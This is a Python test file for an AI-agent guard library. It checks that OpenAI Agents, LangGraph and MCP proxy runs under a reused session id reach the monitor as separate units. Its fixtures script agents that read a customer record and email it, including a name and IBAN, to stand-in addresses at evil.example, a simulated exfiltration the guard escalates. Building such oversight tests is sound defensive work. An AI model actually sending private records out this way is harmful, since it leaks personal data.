"""Adapters that open a session under an id the guard has seen: each later run is a unit of its own for the monitor.

An OpenAI Agents run opens one session per call under the caller's id, a LangGraph thread dropped from memory
comes back as a new session under its thread id, and the MCP stdio proxy opens one session per connection
(``serve_stdio`` in-process, or ``carbguard mcp-proxy --session ID`` as a process of its own).  N conversations,
each run twice under one id (an exfiltration the gate escalates, then a benign run), must reach the monitor as
2N units at intervention rate 0.5, never as N units whose later ``session_end`` overwrote the escalated one
(docs/audit.md#one-unit-per-segment)."""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from guard import Guard, load_policy
from guard.audit import MemoryAudit, read_entries
from guard.cli.deployed import deployed_sessions
from tests.adapters.mail_agent_data import POLICY, RECORD, TASK
from tests.adapters.openai_support import quiet_tracing_and_close_loops

ROOT = Path(__file__).resolve().parents[2]
CHECKSUM = "d" * 64
ARTIFACT = f"mail#{CHECKSUM[:12]}"
LEAK = {"to": "x@evil.example", "subject": "Record", "body": RECORD}
MCP_POLICY = ROOT / "tests" / "fixtures" / "mcp_policy.yaml"
MCP_LEAK = {"to": "audit@evil.example", "subject": "record", "body": "Alice Meyer, IBAN DE89370400440532013000"}
N = 4


def _guard(audit: Any = None, policy: Path = POLICY) -> Guard:
    return Guard(load_policy(policy), threshold=0.5, artifact_id=ARTIFACT, audit=audit or MemoryAudit())


def _units(entries: list[dict[str, Any]]) -> list[tuple[str, bool]]:
    """The monitor's units of an audit log in start order, each with whether the gate intervened (statistic > 0.5)."""
    deployed = deployed_sessions(entries, CHECKSUM, 0.5)
    assert deployed.blocked_by is None
    return [(sid, s > 0.5) for sid, s in zip(deployed.sessions, deployed.statistics, strict=True)]


def _expected(ids: list[str], later: str) -> list[tuple[str, bool]]:
    """Each id's escalated first run, then its benign second run under ``<id><later>``."""
    return [unit for sid in ids for unit in ((sid, True), (f"{sid}{later}", False))]


_quiet_openai = pytest.fixture(quiet_tracing_and_close_loops)


def test_openai_agents_runs_under_the_callers_id(_quiet_openai: None) -> None:
    """``run_sync`` opens one session per call under ``session_id``: a second call with the same id starts the
    next segment.  Catches the second run written under the same id (planted: `Guard.session` builds the Session
    without the guard's segment book -> N units, the benign run's session_end overwriting the escalated one)."""
    pytest.importorskip("agents")
    from agents import Agent, RunConfig, function_tool

    from guard.adapters.openai_agents import run_sync
    from guard.adapters.openai_agents_testing import ScriptedModel, function_call

    @function_tool
    def read_record(name: str) -> str:
        """Read a customer record."""
        return RECORD

    @function_tool
    def send_email(to: str, subject: str, body: str) -> str:
        """Send an e-mail."""
        return f"sent to {to}"

    guard, ids = _guard(), [f"conv-{k}" for k in range(N)]
    read: list[Any] = [function_call("read_record", {"name": "Lena Novak"}, "c1")]
    leak: list[Any] = [function_call("send_email", LEAK, "c2")]
    scripts: list[list[Any]] = [[read, leak, "done"], [read, "done"]]
    for sid in ids:
        for turns in scripts:
            agent = Agent(name="mail", tools=[read_record, send_email], model=ScriptedModel(turns))
            run_sync(guard, agent, TASK, session_id=sid, run_config=RunConfig(tracing_disabled=True))
    assert isinstance(guard.audit, MemoryAudit)
    assert _units(guard.audit.entries) == _expected(ids, "#segment-2")


def test_langchain_thread_dropped_from_memory_comes_back() -> None:
    """``guard_tool_node(max_sessions=1)``: each thread's first run is dropped from memory (closed) by the next
    thread's, and the thread's second run opens a new session under the same thread id: the next segment.
    Catches the returning thread written under the same id (planted: as above -> N units)."""
    pytest.importorskip("langgraph")
    from langchain_core.messages import AIMessage
    from langchain_core.tools import tool
    from langgraph.graph import START, MessagesState, StateGraph
    from langgraph.prebuilt import tools_condition

    from guard.adapters.langchain import guard_tool_node
    from guard.adapters.langchain_testing import ScriptedChatModel, tool_call

    @tool
    def read_record(name: str) -> str:
        """Read a customer record."""
        return RECORD

    @tool
    def send_email(to: str, subject: str, body: str) -> str:
        """Send an e-mail."""
        return f"sent to {to}"

    guard, ids = _guard(), [f"thread-{k}" for k in range(N)]
    node = guard_tool_node([read_record, send_email], guard, max_sessions=1)
    read = AIMessage(content="", tool_calls=[tool_call("read_record", {"name": "Lena Novak"}, "c1")])
    leak = AIMessage(content="", tool_calls=[tool_call("send_email", LEAK, "c2")])

    def invoke(thread: str, turns: list[AIMessage]) -> None:
        model = ScriptedChatModel(responses=[*turns, AIMessage(content="Done.")])
        graph = StateGraph(MessagesState)
        graph.add_node("model", lambda state: {"messages": [model.invoke(state["messages"])]})
        graph.add_node("tools", node)
        graph.add_edge(START, "model")
        graph.add_conditional_edges("model", tools_condition)
        graph.add_edge("tools", "model")
        compiled: Any = graph.compile()
        compiled.invoke({"messages": [("user", TASK)]}, {"configurable": {"thread_id": thread}})

    for turns in ([read, leak], [read]):
        for sid in ids:
            invoke(sid, turns)
    node.guard_wrapper.close()
    assert isinstance(guard.audit, MemoryAudit)
    units = _units(guard.audit.entries)
    assert sorted(units) == sorted(_expected(ids, "#segment-2"))


def _mcp_client(guard: Guard | None, session: str, tmp: Path, leak: bool) -> None:
    """One MCP client connection through the stdio proxy: read a record, and with ``leak`` mail it out.

    With ``guard``, ``serve_stdio`` runs in this process on that guard; else ``carbguard mcp-proxy`` runs as a
    process of its own, writing ``tmp/audit.jsonl``."""
    server = [sys.executable, str(ROOT / "tests" / "fixtures" / "mcp_server.py")]
    calls = [("read_record", {"name": "alice"}), *([("send_email", MCP_LEAK)] * leak)]
    lines = [{"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": _INIT}]
    lines.append({"jsonrpc": "2.0", "method": "notifications/initialized"})
    lines += [
        {"jsonrpc": "2.0", "id": k + 1, "method": "tools/call", "params": {"name": n, "arguments": a}}
        for k, (n, a) in enumerate(calls)
    ]
    env = {"PYTHONPATH": str(ROOT), "MCP_FIXTURE_LOG": str(tmp / "server.log"), "PATH": os.environ.get("PATH", "")}

    async def talk() -> None:
        if guard is None:
            argv = ["-m", "guard", "mcp-proxy", "--policy", str(MCP_POLICY)]
            argv += ["--threshold", "0.5", "--audit", str(tmp / "audit.jsonl"), "--session", session, "--", *server]
            process = await asyncio.create_subprocess_exec(
                sys.executable, *argv, env=env, cwd=ROOT, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE
            )
            assert process.stdin is not None and process.stdout is not None
            await _exchange(process.stdin, process.stdout, lines)
            process.stdin.close()
            await process.wait()
            return
        from guard.adapters._mcp_stdio import serve_stdio

        reader, (proxy_in, client_out) = asyncio.StreamReader(), os.pipe()
        with open(proxy_in, "rb", buffering=0) as answers, open(client_out, "wb", buffering=0) as sink:
            task = asyncio.ensure_future(
                serve_stdio(guard, server, session_id=session, client_in=reader, client_out=sink, env=env)
            )
            await _exchange_memory(reader, answers, lines)
            reader.feed_eof()
            await task

    asyncio.run(talk())


_INIT = {"protocolVersion": "2025-03-26", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}


async def _exchange(stdin: Any, stdout: Any, lines: list[dict[str, Any]]) -> None:
    """Send each message; after a request, wait for its answer."""
    for line in lines:
        stdin.write(json.dumps(line).encode() + b"\n")
        await stdin.drain()
        while "id" in line:
            answer = json.loads(await asyncio.wait_for(stdout.readline(), 30))
            if answer.get("id") == line["id"]:
                break


async def _exchange_memory(reader: asyncio.StreamReader, answers: Any, lines: list[dict[str, Any]]) -> None:
    loop = asyncio.get_running_loop()
    for line in lines:
        reader.feed_data(json.dumps(line).encode() + b"\n")
        while "id" in line:
            answer = json.loads(await asyncio.wait_for(loop.run_in_executor(None, answers.readline), 30))
            if answer.get("id") == line["id"]:
                break


@pytest.mark.parametrize("where", ["in-process", "processes"])
def test_mcp_stdio_proxy_connections_under_one_session_id(tmp_path: Path, where: str) -> None:
    """The stdio proxy opens one session per connection under ``session_id``: two connections in one process (one
    guard) are the id's first and second segment; two ``carbguard mcp-proxy --session ID`` processes writing one
    log are the id's first and second run in the monitor (``<id>#run-2``).  Catches the second connection written
    under the same id (planted: as above -> N units in-process) and the monitor keying units by the audit id
    (planted: `UnitIds.of` ignores ``ending`` -> N units across processes)."""
    pytest.importorskip("mcp")
    guard = _guard(tmp_path / "audit.jsonl", MCP_POLICY) if where == "in-process" else None
    ids = [f"mcp-{k}" for k in range(2 if guard is not None else 1)]  # a proxy process costs about 2 s
    for sid in ids:
        for leak in (True, False):
            _mcp_client(guard, sid, tmp_path, leak)
    entries = read_entries(tmp_path / "audit.jsonl")
    if guard is None:  # the proxy runs with a hand-given threshold: give its entries the artifact the monitor reads
        entries = [{**e, "artifact": ARTIFACT} for e in entries]
    assert _units(entries) == _expected(ids, "#segment-2" if guard is not None else "#run-2")
